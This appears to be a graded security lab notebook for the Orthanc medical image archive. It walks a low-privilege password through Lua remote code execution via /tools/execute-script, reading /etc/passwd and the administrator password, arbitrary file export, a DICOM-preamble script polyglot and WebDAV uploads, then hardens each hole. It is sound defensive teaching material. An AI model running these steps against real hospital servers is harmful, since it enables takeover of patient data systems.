# %% [markdown]
# # 3 · Take over
#
# Somewhere on the internet an online shop has lost its list of customers. On it is a radiologist of Jan Arogya District
# Hospital, with the password that she also uses at work. She is not worried. *"I can only look at images,"* she says.
# *"What should anybody do with that?"*
#
# It is a fair question, and in this lab you answer it. You have her password and nothing else. You will see how few steps
# lead from there to the machine itself - and then take the steps away, one after the other, so that she can go on
# looking at images.
#
# **After this lab you can**
# - say what separates a reader from an administrator, and an administrator from the owner of the machine;
# - recognise three conveniences that hand a server over: scripts, files and a network drive;
# - explain what happened in CVE-2023-33466;
# - write rules for single users, as a list of what is allowed.
#
# **Time:** 90 minutes. **Points:** 110. **Before:** [1 · Discover](01_discover.ipynb).
#
# **The rules of this lab.** Everything here is harmless, and stays so if you keep to what the cells do: read, count,
# write to where nothing is kept. Mind that the archive runs **on your own computer**: a script that you send to it runs
# there. Send it nothing that you would not type into your own terminal. And on a server that is not yours each of these
# steps is a crime, whoever's password you have found: [the rules](00_start_here.ipynb).

# %%
from pacslab import Lab

lab = Lab("remote-code")
lab.start()

# %% [markdown]
# ## A reader
#
# What the staff have been told stands in `handover.yaml`. The radiologist's line is what was in the shop's list.

# %%
account = lab.handover.web.radiologist
reader = lab.archive(account.username, account.password)

print(account.username, account.password)

# %%
lab.task("patients-in-reach")

# %%
patients = ...
### BEGIN SOLUTION
patients = len(reader.get_patients())
### END SOLUTION

# %%
lab.check("patients-in-reach", patients)

# %% [markdown]
# That alone is a breach that somebody has to report. But she is right so far: it is looking.
#
# The DICOM side, by the way, was closed last year (you have done it yourself in [lab 2](02_dicom_network.ipynb)). The
# whole attack goes through the front door, with a valid password. No firewall will notice.

# %% [markdown]
# ## The server calculates
#
# Orthanc can be extended with small programs in the language *Lua*. Somebody wrote the hospital's nightly statistics that
# way. The script lies on another computer and is *sent* to the archive each night, as the body of a request:
# `POST /tools/execute-script`. The answer is what the script prints.

# %%
def run_lua(script, client=reader):
    """Have the archive run a script, and return what comes back."""
    answer = client.post(lab.url + "/tools/execute-script", content=script)
    return answer.text.strip() if answer.status_code == 200 else f"refused with status {answer.status_code}"


print(run_lua("print('Good evening. I am ' .. _VERSION .. '.')"))

# %%
lab.task("script-runs")

# %%
result = ...
### BEGIN SOLUTION
result = run_lua("print(17 * 23)")
### END SOLUTION

# %%
lab.check("script-runs", result)

# %% [markdown]
# A sum. Now say slowly what has happened: **you have written a program, and the hospital's server has run it.** Nobody
# asked whether a *radiologist* may do that. Orthanc itself only knows users, and every user is everything.
#
# What can a program do that an API cannot? It can open files.

# %%
lab.task("first-account")

# %%
# In Lua: io.open('name of the file'):read('*l') gives the first line. The user's name ends at the first colon.
first_account = ...
### BEGIN SOLUTION
line = run_lua("print(io.open('/etc/passwd'):read('*l'))")
first_account = line.split(":")[0]
### END SOLUTION

# %%
lab.check("first-account", first_account)

# %% [markdown]
# And it can start *other* programs. `id` is one that does nothing but tell who it runs as. (With Docker the archive lives
# in a container, and this is a user in there. Without, it is - you.)

# %%
print(run_lua("print(io.popen('id'):read('*a'))"))

# %% [markdown]
# This is the point of the whole lab. `id` could have been any command: one that copies the database, one that encrypts
# it, one that waits and looks at what else is on the hospital's network. The trade calls it **remote code execution**,
# RCE, and gives it the highest scores that it has. The reader is not looking any more.

# %% [markdown]
# ## Becoming the administrator
#
# It does not even take a command of the machine. Orthanc gives its scripts some functions of its own, so that they can do
# their work. One of them tells them the configuration.

# %%
print(run_lua("for name in pairs(GetOrthancConfiguration()) do print(name) end"))

# %%
lab.task("becoming-administrator")

# %%
# GetOrthancConfiguration() returns a table; table['a']['b'] reads from a table inside.
password = ...
### BEGIN SOLUTION
password = run_lua("print(GetOrthancConfiguration()['RegisteredUsers']['administrator'])")
### END SOLUTION

# %%
lab.check("becoming-administrator", password)

# %% [markdown]
# Passwords in the clear, in a file that every script can read. From here on the attacker is in every log as
# "administrator".

# %% [markdown]
# ## A file anywhere
#
# The second convenience. A research project once wanted its images in a folder of the server, so Orthanc was allowed to
# write files: `POST /instances/{id}/export`, with the path as the body.
#
# Where the path leads is the caller's choice. We take `/dev/null`, the machine's own nowhere: whatever is written there
# is gone.

# %%
lab.task("swallowed-file")

# %%
# A POST to lab.url + "/instances/.../export" with any image's identifier; keep the status of the answer.
status = ...
### BEGIN SOLUTION
instance = reader.get_instances()[0]
status = reader.post(f"{lab.url}/instances/{instance}/export", content="/dev/null").status_code
### END SOLUTION

# %%
lab.check("swallowed-file", status)

# %% [markdown]
# "Only images," somebody will say. "What harm is in an image at a wrong place?" Two answers.
#
# **It overwrites.** A file of the right name is gone: the index of the archive, its configuration, the last backup.
#
# **An image can be a program.** A DICOM file begins with 128 bytes that DICOM itself never looks at, the *preamble*. They
# are free for whatever a vendor wants. (CVE-2019-11687; the standard's committee answered that it is meant so, and that
# one has to look at what one receives.) Look at what fits into 128 bytes. This happens in your own folder, not on the
# archive:

# %%
import subprocess

import pydicom

instance = next(
    series["Instances"][0]
    for series in reader.get_series({"expand": ""})
    if series["MainDicomTags"]["Modality"] == "CT"
)
content = reader.get_instances_id_file(instance)

script = b"#!/bin/sh\necho 'I am a CT image. I am also a program.'\nexit 0\n"
two_in_one = lab.work / "two-in-one.dcm"
two_in_one.write_bytes(script.ljust(128, b"\0") + content[128:])

print("as an image:  ", pydicom.dcmread(two_in_one).Modality, pydicom.dcmread(two_in_one).StudyDescription)
print("as a program: ", subprocess.run(["sh", two_in_one], capture_output=True, text=True).stdout)
two_in_one.unlink()

# %% [markdown]
# Send such an image to an archive, have the archive write it to a place from which programs are started, wait. That is
# the way from *writing files* to *running code*.
#
# ### The story of CVE-2023-33466
#
# Until 2023 this writing was **on in every Orthanc**, for whoever could use its interface, with no option to switch it off.
# Then it was published as a weakness: whoever could log in could write over files of the machine, in some installations
# the configuration itself - and whoever writes the configuration decides what the server does after its next start. It
# got the number CVE-2023-33466, and Orthanc 1.12.0 got the option `RestApiWriteToFileSystemEnabled`, which is off unless
# somebody switches it on.
#
# Two lessons. **A version number alone proves nothing:** Debian's Orthanc calls itself 1.10.1 and has the repair
# nevertheless, taken over from the newer one. And **a repair that is an option can be taken back by one line**, copied
# from an old configuration file. Like the one in front of you.

# %% [markdown]
# ## The network drive
#
# The third convenience is on by default. Orthanc is a *WebDAV* server: the archive appears as a drive on every desktop,
# and in the reading room CDs are dropped into it. The method `PROPFIND` lists a folder.

# %%
import re

answer = reader.request("PROPFIND", lab.url + "/webdav/", headers={"Depth": "1"})

print(answer.status_code, re.findall("<D:href>(.*?)</D:href>", answer.text))

# %%
lab.task("drop-folder")

# %%
folder = ...
### BEGIN SOLUTION
folder = "uploads"
### END SOLUTION

# %%
lab.check("drop-folder", folder)

# %%
# Does it take a file from a reader? (This one is no image, so the archive lets it fall afterwards.)
answer = reader.put(lab.url + "/webdav/uploads/note.txt", content=b"This is no image.")

print(answer.status_code, "- 201 means: taken")

# %% [markdown]
# A *reader* hands files in. What reads uploaded files has to understand them, and what has to understand files from
# anybody has weaknesses: among those published for Orthanc up to 1.12.10 are small files that unpack to an enormous size
# and images that make the decoder read beyond its memory.

# %% [markdown]
# ## Change sides
#
# All of it at a glance:

# %%
lab.assess()

# %% [markdown]
# Four steps close all of it. Before each, ask the question that the hospital will ask: **who needs this, and what do they do
# instead?**

# %% [markdown]
# ### Step 1: no scripts from outside
#
# The statistics can be made from the outside, with the same numbers that the API tells anybody who may read.

# %%
lab.task("no-scripts")

# %%
# The option has "Lua" in its name.
### BEGIN SOLUTION
lab.set_options(ExecuteLuaEnabled=False)
### END SOLUTION

# %%
lab.restart()
lab.check("no-scripts")

# %%
print(run_lua("print('Am I still here?')"))

# %% [markdown]
# ### Step 2: no files
#
# The research project can download its images. (In [lab 6](06_deidentify.ipynb) you see what should happen to them on the
# way.)

# %%
lab.task("no-files")

# %%
### BEGIN SOLUTION
lab.set_options(RestApiWriteToFileSystemEnabled=False)
### END SOLUTION

# %%
lab.restart()
lab.check("no-files")

# %% [markdown]
# ### Step 3: no drive
#
# Two options would do. One closes the drive for uploads, the other closes the drive. Which one needs less trust in the
# next version of the software?

# %%
lab.task("no-drive")

# %%
### BEGIN SOLUTION
lab.set_options(WebDavEnabled=False)
### END SOLUTION

# %%
lab.restart()
lab.check("no-drive")

# %% [markdown]
# ### Step 4: readers read
#
# Look at the assessment again: what is left? The radiologist can still *delete* a study and *restart* the server. Not
# because somebody allowed it, but because Orthanc, as it comes, has no idea of "may". Whoever is in, is in.
#
# It asks, though. If there is a Lua function called `IncomingHttpRequestFilter`, Orthanc calls it **for every request**,
# before anything is done, and does nothing if the function says `false`:
#
#     function IncomingHttpRequestFilter(method, uri, ip, username, headers)
#       ...
#       return true
#     end
#
# Lua again! The difference is where the script lies: in a file on the machine, beside `orthanc.json`, where only the
# machine's owner writes. The option `LuaScripts` names it.
#
# Write the rules as a **list of what is allowed**. A list of what is forbidden ("no DELETE") has a hole for everything
# that its author did not think of, and for everything that the next version brings. What does a radiologist need?
#
# - `GET`: to look;
# - `POST` to `/tools/find`: to search (it is a POST only because the question is long).

# %%
lab.task("readers-read")

# %%
# Write the file rights.lua into lab.work, and name it in LuaScripts: a list of file names.
# In Lua: == and ~= compare, `and`, `or`, `not` combine, `if ... then ... end` decides.
rules = ...
### BEGIN SOLUTION
rules = """\
-- The administrator may do everything. Everybody else looks and searches.
function IncomingHttpRequestFilter(method, uri, ip, username, headers)
  if username == 'administrator' then
    return true
  end
  return method == 'GET' or (method == 'POST' and uri == '/tools/find')
end
"""
(lab.work / "rights.lua").write_text(rules)
lab.set_options(LuaScripts=["rights.lua"])
### END SOLUTION

# %%
lab.restart()
lab.check("readers-read")

# %% [markdown]
# Try it as she would. The first is her work, the second never was. (There is no image of that name. Nothing is deleted even
# if the archive says yes, and what it says then is 404, "there is none": it has *looked* for it.)

# %%
print("look:  ", reader.get(lab.url + "/patients").status_code)
print("delete:", reader.delete(lab.url + "/instances/no-such-image").status_code)

# %% [markdown]
# ### One thing more, for no points
#
# All doors are closed. And the attacker has **two passwords** that still fit: the radiologist's, from the shop, and the
# administrator's, from the configuration. A hole that is closed does not take back what came out of it.
#
# Change both. Where do they have to stand, so that the hospital still works?

# %%
import secrets

# New passwords: into RegisteredUsers of orthanc.json, and into handover.yaml.
### BEGIN SOLUTION
text = (lab.work / "handover.yaml").read_text()
users = {}
for account in (lab.handover.web.radiologist, lab.handover.web.administrator):
    users[account.username] = secrets.token_urlsafe(16)
    text = text.replace(account.password, users[account.username])
(lab.work / "handover.yaml").write_text(text)
lab.set_options(RegisteredUsers=users)
### END SOLUTION

# %%
lab.restart()

# %% [markdown]
# ## The whole picture

# %%
lab.changes()
lab.assess()

# %%
lab.score

# %% [markdown]
# ## To think about
#
# The radiologist's question was: *what should anybody do with my password?* Write the answer that you would give her, in
# three sentences, without a single technical word and without making her feel stupid.
#
# And one for the hospital. Each of the conveniences was put in by somebody who solved a real problem for a colleague:
# statistics, research, CDs. None of them asked anybody. What would have to exist in the hospital so that they ask, and so
# that the answer comes quicker than they can find the option themselves?
#
# **Next:** [4 · Eavesdrop](04_eavesdrop.ipynb).
#
# **References.** CVE-2023-33466 (files written through the API, before Orthanc 1.12.0). CVE-2019-11687 (the preamble of a
# DICOM file). CVE-2026-5437 to 5445 (uploads that exhaust or crash the server, up to 1.12.10). CWE-94 (code injection),
# CWE-269 (improper privilege management). The Orthanc Book, chapters *Securing Orthanc* and *Server-side scripting with
# Lua*.
